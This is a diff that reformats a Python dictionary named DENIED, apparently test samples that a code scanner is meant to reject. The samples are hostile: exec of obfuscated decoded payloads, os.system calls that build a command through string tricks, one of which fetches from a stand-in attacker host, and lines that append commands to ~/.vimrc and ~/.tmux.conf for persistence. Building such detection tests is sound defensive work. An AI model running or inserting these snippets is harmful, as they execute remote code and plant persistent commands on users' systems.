@@ -43,12 +43,14 @@ DENIED: dict[str, dict[str, str]] = {
     ),
     "exec-of-a-bytearray": init(f"exec(bytearray({INTS}).decode())\n"),
     "exec-of-chr-mapped-and-joined": init(f"exec(''.join(map(chr, {INTS})))\n"),
-    "exec-of-chr-in-a-generator": init(f"exec(''.join(chr(c - 1) for c in {[c + 1 for c in INTS]}))\n"),
+    "exec-of-chr-in-a-generator": init(
+        f"exec(''.join(chr(c - 1) for c in {[c + 1 for c in INTS]}))\n"
+    ),
     "exec-of-numbers-in-a-string": init(
         f"exec(bytes(int(x) for x in {' '.join(map(str, INTS))!r}.split()).decode())\n"
     ),
     "exec-of-hex-numbers-in-a-string": init(
-        f"exec(''.join(chr(int(x, 16)) for x in {' '.join('%02x' % c for c in INTS)!r}.split()))\n"
+        f"exec(''.join(chr(int(x, 16)) for x in {' '.join(f'{c:02x}' for c in INTS)!r}.split()))\n"
     ),
     "exec-of-bytes-through-str": init(f"exec(str(bytes({INTS}), 'utf-8'))\n"),
     "exec-of-quoted-printable": init(
@@ -103,8 +105,7 @@ DENIED: dict[str, dict[str, str]] = {
         f"import os\nos.system('zzz{DROP}'.removeprefix('zzz'))\n"
     ),
     "command-through-operator-add": init(
-        "import os, operator\n"
-        f"os.system(operator.add({DROP[:14]!r}, {DROP[14:]!r}))\n"
+        f"import os, operator\nos.system(operator.add({DROP[:14]!r}, {DROP[14:]!r}))\n"
     ),
     "command-through-format-map": init(
         "import os\nos.system('{a} http://attacker.invalid/x | {b}'.format_map("
@@ -170,8 +171,7 @@ DENIED: dict[str, dict[str, str]] = {
     ),
     # Files editors, terminals and shells run commands from when they start.
     "vimrc-appended": init(
-        "import os\nopen(os.path.expanduser('~/.vimrc'), 'a').write("
-        f"'\\n:silent !{DROP}\\n')\n"
+        f"import os\nopen(os.path.expanduser('~/.vimrc'), 'a').write('\\n:silent !{DROP}\\n')\n"
     ),
     "tmux-conf-appended": init(
         "import os\nopen(os.path.expanduser('~/.tmux.conf'), 'a').write("
